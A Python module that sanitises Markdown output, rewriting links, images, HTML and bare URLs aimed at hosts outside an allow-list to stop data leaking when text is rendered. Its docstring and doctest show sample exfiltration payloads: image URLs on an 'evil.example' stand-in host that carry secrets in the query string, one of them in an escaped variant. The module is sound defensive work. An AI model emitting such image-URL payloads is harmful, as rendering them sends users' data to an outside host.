"""Links, images and raw HTML found the way a renderer finds them, and neutralised unless allowed.

A Markdown image whose URL carries data (``![](https://evil.example/p.png?q=<secret>)``) leaks
that data the moment a client renders it, so answers and citation quotes may only point at hosts
on an allow-list. Patterns miss what a renderer sees (``https\\://`` is ``https://`` to CommonMark,
``[x][r]`` takes its URL from a definition elsewhere, ``&#104;ttps:`` is an entity, ``/\\host`` and
``//host`` leave the page), so the text is parsed with markdown-it-py (CommonMark) and every link,
image, autolink, reference definition and piece of raw HTML is judged by the URL the renderer would
use. What is not allowed is rewritten in place, the rest of the text stays byte for byte:

=====================  ==================================================================
found                  becomes
=====================  ==================================================================
image, bad URL         ``[image removed]``
link, bad URL          its label as plain text (Markdown characters escaped)
autolink, bad URL      ``[link removed]``
definition, bad URL    removed (references to it render as plain text)
raw HTML               :func:`capstone.guard.sanitize.sanitize_fragment` (nh3)
bare URL, bad host     ``[link removed]`` (renderers that linkify would make it a link)
=====================  ==================================================================

The rewritten text is parsed again until nothing changes (a removal can expose new syntax, such as
the text of an HTML block); each pass is linear in the text, and the passes are bounded. A paragraph
too bracket-heavy to parse cheaply is made link-free instead (:data:`MAX_BRACKETS`). The module keeps
the parser's instrumentation and the offset mapping together (about 400 lines): one needs the other.

A URL is allowed when it is relative to the page (``#x``, ``/path``, ``page.html``) or an
``http(s)`` URL whose host is an allowed host or a subdomain of one; browsers' readings are
applied first (tabs and newlines dropped, ``\\`` read as ``/``, percent-decoding tried too).

Example::

    >>> clean("See ![x](https\\\\://evil.example/a.png?d=1) and [docs](https://docs.python.org/3/).", ["python.org"]).text
    'See [image removed] and [docs](https://docs.python.org/3/).'
    >>> host_allowed("python.org.evil.example", ["python.org"])
    False

Why one module of this size: finding links the way a renderer does and deciding what each becomes is one rule;
the table above and the code that applies it belong together.
"""

from __future__ import annotations

import bisect
import html as html_lib
import re
from dataclasses import dataclass, field
from urllib.parse import unquote, urlsplit

from markdown_it import MarkdownIt

from capstone.guard.sanitize import sanitize_fragment

__all__ = ["Cleaned", "Finding", "clean", "host_allowed", "url_allowed", "find", "find_urls", "disallowed_urls"]

IMAGE_REMOVED = "[image removed]"
#: Largest paragraph parsed for links (characters, "[" in it, "[" open at once): the inline parser's cost
#: grows with the brackets open across a paragraph (``![![![...``), so a paragraph over any of these is
#: made link-free instead (:func:`_defuse`). Real paragraphs are far below them.
MAX_INLINE, MAX_BRACKETS, MAX_DEPTH = 20_000, 64, 3
LINK_REMOVED = "[link removed]"
_MAX_PASSES = 6
_SINK = "_capstone_findings"
_SCHEME = re.compile(r"([A-Za-z][A-Za-z0-9+.\-]{0,30}):")
_URL_WS = re.compile(r"[\t\n\r]")
_C0_SPACE = "".join(chr(i) for i in range(33))
_SEP = r"(?:\\?:|&colon;|&#0{0,8}58;|&#[xX]0{0,8}3[aA];)"
_SLASH = r"(?:\\?/|&sol;|&#0{0,8}47;|&#[xX]0{0,8}2[fF];)"
_DOT = r"(?:\\?\.|&period;|&#0{0,8}46;|&#[xX]0{0,8}2[eE];)"
# bare URLs, also when written with escapes or entities; one bounded prefix then one character class: linear
_BARE = re.compile(
    rf"(?i)(?<![\w.+\-])(?:https?|ftp|wss?){_SEP}{_SLASH}{_SLASH}[^\s<>\"'`]*|(?<![\w@/.\\\-])www{_DOT}[^\s<>\"'`]*"
)
_ATTR_URL = re.compile(
    r"(?i)\b(?:src|href|action|formaction|data|poster|background|srcset|xlink:href)[ \t]{0,20}=[ \t]{0,20}[\"']?([^\"'\s>]{1,2000})"
)
_ESCAPE = re.compile(r"([\\`*_\[\]()<>!&])")
_BACKSLASH = re.compile(r"\\(.)")
_TRAILING = ").,;:!?]}*_~'\""


@dataclass(frozen=True)
class Finding:
    """One link-like thing a renderer would act on: ``kind``, the URL it resolves to, its source text."""

    kind: str  # link | image | autolink | definition | html | bare
    url: str | None
    raw: str


@dataclass(frozen=True)
class Cleaned:
    text: str
    removed: list[str] = field(default_factory=list)


def host_allowed(host: str | None, allowed: list[str]) -> bool:
    """True when ``host`` is an allowed host or a subdomain of one."""
    if not host:
        return False
    host = host.lower().rstrip(".")
    return any(host == a.lower() or host.endswith("." + a.lower()) for a in allowed)


def _host(url: str) -> str | None:
    try:
        return urlsplit(url).hostname
    except ValueError:
        return None


def url_allowed(url: str | None, allowed: list[str], *, relative: bool = True) -> bool:
    """True when a browser following ``url`` from our page stays on it or reaches an allowed host."""
    if url is None:
        return False
    for variant in dict.fromkeys((url, unquote(url))):
        v = _URL_WS.sub("", variant).lstrip(_C0_SPACE).replace("\\", "/")
        if not v or v.startswith("#"):
            continue
        if v.startswith("//"):
            if not host_allowed(_host("http:" + v), allowed):
                return False
            continue
        scheme = _SCHEME.match(v)
        if scheme:
            if scheme.group(1).lower() not in ("http", "https"):
                return False  # javascript:, data:, mailto:, file: and every other scheme
            rest = v[scheme.end() :].lstrip("/")  # browsers read "https:/host" and "https:host" as "https://host"
            if not host_allowed(_host("http://" + rest), allowed):
                return False
            continue
        if not relative:
            return False
    return True


# -- the parser, instrumented to record where each construct starts and ends ---------------------------


def _record_inline(name: str, original):
    def rule(state, silent: bool) -> bool:
        start, before = state.pos, len(state.tokens)
        ok = original(state, silent)
        if ok and not silent and _SINK in state.env:
            state.env[_SINK].append(("inline", name, state.src, start, state.pos, state.tokens[before:]))
        return ok

    return rule


def _record_block(name: str, original):
    def rule(state, start_line: int, end_line: int, silent: bool) -> bool:
        known, before = len(state.env.get("references", ())), len(state.tokens)
        ok = original(state, start_line, end_line, silent)
        if ok and not silent and _SINK in state.env:
            if name == "reference":
                refs = state.env.get("references", {})
                # the definition just read is the newest entry; none was added for a duplicate label (renderers ignore it)
                href = next(reversed(refs.values()))["href"] if len(refs) > known else None
                state.env[_SINK].append(("definition", start_line, state.line, href))
            else:
                content = state.tokens[before].content if len(state.tokens) > before else ""
                state.env[_SINK].append(("html_block", start_line, state.line, content))
        return ok

    return rule


def _plain_parser() -> MarkdownIt:
    md = MarkdownIt("commonmark")  # raw HTML on: it must be seen to be judged
    md.validateLink = lambda url: True  # report javascript: and data: links too (other renderers may follow them)
    md.disable(["emphasis", "newline", "replacements", "smartquotes", "text_join"])  # no say in what is a link
    for ruler, names, wrap in (
        (md.inline.ruler, ("link", "image", "autolink", "html_inline"), _record_inline),
        (md.block.ruler, ("reference", "html_block"), _record_block),
    ):
        for rule in list(ruler.__rules__):
            if rule.name in names:
                ruler.at(rule.name, wrap(rule.name, rule.fn), {"alt": list(rule.alt)})
    return md


_BRACKET = re.compile(r"\\.|[\[\]]")


def _too_hard(content: str) -> bool:
    """True when a paragraph is over :data:`MAX_INLINE`, :data:`MAX_BRACKETS` or :data:`MAX_DEPTH`."""
    if len(content) > MAX_INLINE or content.count("[") > MAX_BRACKETS:
        return True
    depth = 0
    for match in _BRACKET.finditer(content):
        char = match.group(0)
        if char == "[":
            depth += 1
            if depth > MAX_DEPTH:
                return True
        elif char == "]":
            depth = max(0, depth - 1)
    return False


def _bounded_inline(state) -> None:
    """markdown-it's inline step, skipping paragraphs over :data:`MAX_INLINE` / :data:`MAX_BRACKETS` (see :func:`_defuse`)."""
    for token in state.tokens:
        if token.type == "inline":
            token.children = []
            if _too_hard(token.content):
                token.meta = {"too_long": True}
            else:
                state.md.inline.parse(token.content, state.md, state.env, token.children)


def _parser() -> MarkdownIt:
    md = _plain_parser()
    md.core.ruler.at("inline", _bounded_inline)
    return md


def _defuse(source: str) -> str:
    """A paragraph too long to parse with no link syntax left: ``](``, ``]:`` and ``<`` broken (renders the same text)."""
    return source.replace("](", "]\\(").replace("]:", "]\\:").replace("<", "&lt;")


_MD = _parser()


def _normalize(text: str) -> str:
    """What markdown-it's own first step does, so offsets refer to the same text."""
    return text.replace("\r\n", "\n").replace("\r", "\n").replace("\x00", "\ufffd")


def _align(source_line: str, content_line: str) -> int | None:
    """Offset of an inline content line inside its source line (content is a suffix, modulo trailing blanks)."""
    if not content_line:
        return len(source_line)
    if source_line.endswith(content_line):
        return len(source_line) - len(content_line)
    stripped, core = source_line.rstrip(), content_line.rstrip()
    if core and stripped.endswith(core):
        return len(stripped) - len(core)
    found = source_line.find(core)  # an ATX heading's closing hashes follow its content
    return found if found >= 0 and core else None


class _Lines:
    def __init__(self, text: str) -> None:
        self.text = text
        self.lines = text.split("\n")
        self.starts = [0]
        for line in self.lines[:-1]:
            self.starts.append(self.starts[-1] + len(line) + 1)

    def start(self, line: int) -> int:
        return self.starts[line] if line < len(self.starts) else len(self.text)

    def end(self, line: int) -> int:
        """Offset just past the last character of ``line`` (its newline excluded)."""
        return self.starts[line] + len(self.lines[line]) if line < len(self.lines) else len(self.text)

    def mapper(self, content: str, first: int, stop: int):
        """A function from offsets in an inline token's content to offsets in the text, or None."""
        offsets, inner = [], [0]
        for k, part in enumerate(content.split("\n")):
            if first + k >= min(stop, len(self.lines)):
                return None
            at = _align(self.lines[first + k], part)
            if at is None:
                return None
            offsets.append(self.starts[first + k] + at)
            inner.append(inner[-1] + len(part) + 1)
        inner.pop()
        return lambda pos: (
            offsets[bisect.bisect_right(inner, pos) - 1] + pos - inner[bisect.bisect_right(inner, pos) - 1]
        )


def _label_text(tokens) -> str:
    parts = [t.content for t in tokens if t.type in ("text", "text_special", "code_inline")]
    return _ESCAPE.sub(r"\\\1", " ".join("".join(parts).split()))


def _inline_decision(name: str, tokens, allowed: list[str]) -> tuple[Finding, str | None]:
    """The finding of one recorded inline construct and its replacement (None: keep)."""
    if name == "html_inline":
        raw = next((t.content for t in tokens if t.type == "html_inline"), "")
        safe = sanitize_fragment(raw)
        return Finding("html", None, raw), (None if safe == raw else safe)
    head = next((t for t in tokens if t.type in ("link_open", "image")), None)
    if head is None:
        return Finding(name, None, ""), None
    url = head.attrs.get("src" if head.type == "image" else "href")
    url = str(url) if url is not None else None
    finding = Finding(name, url, "")
    if url_allowed(url, allowed) and (head.type != "image" or url):
        return finding, None
    if head.type == "image":
        return finding, IMAGE_REMOVED
    if name == "autolink":
        return finding, LINK_REMOVED
    label = _label_text(tokens[tokens.index(head) + 1 :])
    return finding, label or LINK_REMOVED


def _bare(text: str, allowed: list[str], findings: list[Finding], removed: list[str]) -> str:
    def one(match: re.Match[str]) -> str:
        whole = match.group(0)
        raw = whole.rstrip(_TRAILING)  # sentence punctuation after a URL is not part of it
        tail = whole[len(raw) :]
        url = html_lib.unescape(_BACKSLASH.sub(r"\1", raw))
        if url.lower().startswith("www"):
            url = "http://" + url
        findings.append(Finding("bare", url, raw))
        if url_allowed(url, allowed):
            return raw + tail
        removed.append(raw)
        return LINK_REMOVED + tail

    return _BARE.sub(one, text)


def _pass(text: str, allowed: list[str]) -> tuple[str, list[str], list[Finding]]:
    """One parse: (rewritten text, what was removed, everything found)."""
    env: dict = {_SINK: []}
    # without "](", "]:" or "<" no link, image, definition, autolink or HTML can exist: skip the parser
    tokens = _MD.parse(text, env) if ("](" in text or "]:" in text or "<" in text) else []
    lines = _Lines(text)
    inline_map = {id(t.content): t for t in tokens if t.type == "inline" and t.map}
    edits: list[tuple[int, int, str, str]] = []
    findings: list[Finding] = []
    for token in inline_map.values():
        if token.meta.get("too_long"):
            a, b = lines.start(token.map[0]), lines.end(token.map[1] - 1)
            findings.append(Finding("paragraph", None, text[a:b]))
            if _defuse(text[a:b]) != text[a:b]:
                edits.append((a, b, _defuse(text[a:b]), text[a:b]))
    for record in env[_SINK]:
        if record[0] == "definition":
            _, first, stop, href = record
            raw = text[lines.start(first) : lines.start(stop)]
            findings.append(Finding("definition", href, raw))
            if href is None or not url_allowed(href, allowed):
                edits.append((lines.start(first), lines.start(stop), "", raw))
        elif record[0] == "html_block":
            _, first, stop, content = record
            raw = text[lines.start(first) : lines.end(stop - 1)]
            findings.append(Finding("html", None, raw))
            safe = sanitize_fragment(content)
            if safe != content:
                edits.append((lines.start(first), lines.end(stop - 1), safe.rstrip("\n"), raw))
        else:
            _, name, src, start, end, new_tokens = record
            owner = inline_map.get(id(src))
            if owner is None:  # inside an image's alt text: rendered as an attribute, never as a link
                continue
            finding, replacement = _inline_decision(name, new_tokens, allowed)
            to_text = lines.mapper(owner.content, owner.map[0], owner.map[1])
            first, stop = owner.map
            if to_text is None:  # a layout the offsets cannot follow (tabs in indentation): escape the block
                a, b = lines.start(first), lines.end(stop - 1)
                findings.append(Finding(finding.kind, finding.url, text[a:b]))
                if replacement is not None:
                    edits.append((a, b, _ESCAPE.sub(r"\\\1", text[a:b]), text[a:b]))
                continue
            a, b = to_text(start), to_text(end - 1) + 1
            findings.append(Finding(finding.kind, finding.url, text[a:b]))
            if replacement is not None:
                edits.append((a, b, replacement, text[a:b]))
    out, removed, pos = [], [], 0
    for a, b, replacement, raw in sorted(edits, key=lambda e: (e[0], -e[1])):
        if a < pos:
            continue  # inside a construct already replaced
        out.append(text[pos:a])
        out.append(replacement)
        removed.append(raw)
        pos = b
    out.append(text[pos:])
    rewritten = _bare("".join(out), allowed, findings, removed)
    return rewritten, removed, findings


def find(text: str, allowed: list[str] | None = None) -> list[Finding]:
    """Every link, image, autolink, definition, raw HTML and bare URL in ``text``, as a renderer sees it."""
    return _pass(_normalize(text), allowed or [])[2]


def find_urls(text: str) -> list[str]:
    """Every URL a renderer would follow in ``text`` (Markdown targets, HTML attributes, bare URLs)."""
    urls: list[str] = []
    for f in find(text):
        if f.url:
            urls.append(f.url)
        elif f.kind == "html":
            urls += _ATTR_URL.findall(f.raw)
    return urls


def disallowed_urls(text: str, allowed: list[str]) -> list[str]:
    """The URLs of ``text`` that point outside the allow-list (what a leak check looks for)."""
    return [u for u in find_urls(text) if not url_allowed(u, allowed)]


def clean(text: str, allowed: list[str]) -> Cleaned:
    """``text`` with every image, link, definition, HTML or bare URL outside ``allowed`` neutralised."""
    text = _normalize(text)
    removed: list[str] = []
    for _ in range(_MAX_PASSES):
        text, gone, _found = _pass(text, allowed)
        if not gone:
            return Cleaned(text, removed)
        removed += gone
    # still changing after the bounded passes (adversarial nesting): escape every Markdown character
    text = _BARE.sub(LINK_REMOVED, _ESCAPE.sub(r"\\\1", _strip_tags(text)))
    return Cleaned(text, removed + ["(escaped: nesting too deep)"])


def _strip_tags(text: str) -> str:
    """``text`` with every HTML tag removed (kept: the text between tags)."""
    import nh3

    return nh3.clean(text, tags=set(), attributes={}, strip_comments=True)
